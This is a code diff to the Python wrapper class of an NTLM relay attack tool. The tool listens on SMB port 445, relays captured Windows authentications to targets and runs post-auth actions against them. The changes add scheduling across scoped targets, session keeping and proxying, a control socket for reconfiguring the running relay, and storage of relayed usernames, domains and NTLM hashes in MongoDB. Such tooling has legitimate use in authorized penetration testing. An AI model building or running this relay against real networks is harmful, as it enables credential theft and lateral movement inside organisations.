@@ -1,42 +1,92 @@
 from src.modules.exploit.ntlmrelayserver import NTLMRelayServer
+from src.modules.exploit.post_auth import DEFAULT_ACTIONS
+from src.modules.exploit.relay_control import RelayControlServer
 from src.utils.mongo_handler import MongoDBHandler
 import logging
 import socket
 from datetime import datetime
-import platform
+from src.utils.network_context import NetworkContext
+from src.utils.event_sink import EventSink
 
 # Configure logging
 logging.basicConfig(level=logging.DEBUG, format='%(asctime)s - %(levelname)s - %(name)s - %(message)s')
 logger = logging.getLogger(__name__)
 
 class Relay:
-    def __init__(self, interface='0.0.0.0', port=445):
-        # If we're on Windows and interface is specified, get its IP
-        if platform.system() == 'Windows' and interface != '0.0.0.0':
-            try:
-                import psutil
-                for iface, addrs in psutil.net_if_addrs().items():
-                    if interface.lower() in iface.lower():
-                        for addr in addrs:
-                            if addr.family == socket.AF_INET and not addr.address.startswith('169.254.'):
-                                interface = addr.address
-                                break
-                        break
-            except Exception as e:
-                logger.error(f"Error getting interface IP: {e}")
-                interface = '0.0.0.0'
-        
+    def __init__(self, interface='0.0.0.0', port=445, relay_mode='inprocess', target_port=445,
+                 backlog=1024, max_concurrency=256, pool_depth=2, proxy_sessions=False,
+                 proxy_idle_timeout=300.0, keep_sessions=False, max_sessions=64,
+                 session_idle_timeout=900.0, scope_file=None, schedule='round-robin',
+                 max_per_target=4, post_auth_actions=DEFAULT_ACTIONS, post_auth_workers=4,
+                 post_auth_timeout=60.0, extra_ports=(), control_socket=None, store=None):
+        # Resolve interface names once through the cache shared with the responder
+        interface = NetworkContext.shared().resolve(interface, fallback='0.0.0.0')
         self.interface = interface
         self.port = port
+        self.extra_ports = extra_ports
+        self.relay_mode = relay_mode
+        self.target_port = target_port
+        self.backlog = backlog
+        self.max_concurrency = max_concurrency
+        self.pool_depth = pool_depth
+        self.proxy_sessions = proxy_sessions
+        self.proxy_idle_timeout = proxy_idle_timeout
+        self.keep_sessions = keep_sessions
+        self.max_sessions = max_sessions
+        self.session_idle_timeout = session_idle_timeout
+        self.scope_file = scope_file
+        self.schedule = schedule
+        self.max_per_target = max_per_target
+        self.post_auth_actions = post_auth_actions
+        self.post_auth_workers = post_auth_workers
+        self.post_auth_timeout = post_auth_timeout
+        # UNIX socket path of the admin channel that reconfigures the running relay (None: no channel)
+        self.control_socket = control_socket
+        self.control = None
         self.server = None
         self.running = False
         self.logger = logging.getLogger(__name__)
-        self.mongo_handler = MongoDBHandler()
+        # A store with MongoDBHandler's methods replaces it in pipeline mode
+        self.mongo_handler = store if store is not None else MongoDBHandler()
+        # Relay session records are written to MongoDB off the relay's event loop
+        self.event_sink = EventSink(self._store_session, name='relay-sessions')
+        # Post-auth action results reach the results collection in batches
+        self.result_sink = EventSink(self._store_results, name='post-auth-results', batch_size=50,
+                                     flush_interval=2.0)
+
+    def _create_server(self):
+        return NTLMRelayServer(self.interface, self.port, self.relay_mode, self.target_port,
+                               backlog=self.backlog, max_concurrency=self.max_concurrency,
+                               pool_depth=self.pool_depth, proxy_sessions=self.proxy_sessions,
+                               proxy_idle_timeout=self.proxy_idle_timeout,
+                               keep_sessions=self.keep_sessions, max_sessions=self.max_sessions,
+                               session_idle_timeout=self.session_idle_timeout,
+                               scope_file=self.scope_file, schedule=self.schedule,
+                               max_per_target=self.max_per_target, event_sink=self.event_sink,
+                               post_auth_actions=self.post_auth_actions,
+                               post_auth_workers=self.post_auth_workers,
+                               post_auth_timeout=self.post_auth_timeout, result_sink=self.result_sink,
+                               extra_ports=self.extra_ports)
+
+    def _store_session(self, session):
+        """Store one relayed authentication with its credential and phase timings"""
+        self.logger.info(f"Relayed {session['domain']}\\{session['username']} from {session['client']} "
+                         f"to {session['target']}: {session['outcome']}")
+        if session.get('ntlm_hash'):
+            self.logger.info(f"    {session['ntlm_hash']}")
+        if not self.mongo_handler.store_capture(dict(session)):
+            self.logger.warning("Failed to store relay session in MongoDB")
+
+    def _store_results(self, results):
+        """Store a batch of post-auth action results"""
+        stored = self.mongo_handler.store_results(results)
+        if len(stored) < len(results):
+            self.logger.warning(f"Stored {len(stored)} of {len(results)} post-auth results in MongoDB")
 
     def set_target(self, target):
         """Set the target for NTLM relay"""
         if not self.server:
-            self.server = NTLMRelayServer(self.interface, self.port)
+            self.server = self._create_server()
         self.server.set_target(target)
         
         # Store target info in MongoDB
@@ -53,13 +103,13 @@ class Relay:
         try:
             # Initialize server if not done
             if not self.server:
-                self.server = NTLMRelayServer(self.interface, self.port)
+                self.server = self._create_server()
 
             # Set or update target
             if target:
                 self.set_target(target)
-            elif not self.server.target:
-                raise ValueError("Target must be specified")
+            elif not self.server.target and not self.server.scheduler:
+                raise ValueError("Target or scope must be specified")
 
             # Record relay start in MongoDB
             relay_data = {
@@ -74,6 +124,9 @@ class Relay:
             # Start the server
             self.server.start()
             self.running = True
+            if self.control_socket:
+                self.control = RelayControlServer(self.server, self.control_socket)
+                self.control.start()
 
         except (socket.error, ConnectionError) as e:
             self.logger.error(f"Network error: {e}")
@@ -101,8 +154,14 @@ class Relay:
     def stop_relay(self):
         """Stop the relay server"""
         try:
+            if self.control:
+                self.control.stop()
+                self.control = None
             if self.server:
                 self.server.stop()
+            # Write the sessions relayed before the stop
+            self.event_sink.stop()
+            self.result_sink.stop()
             self.running = False
             
             # Record relay stop in MongoDB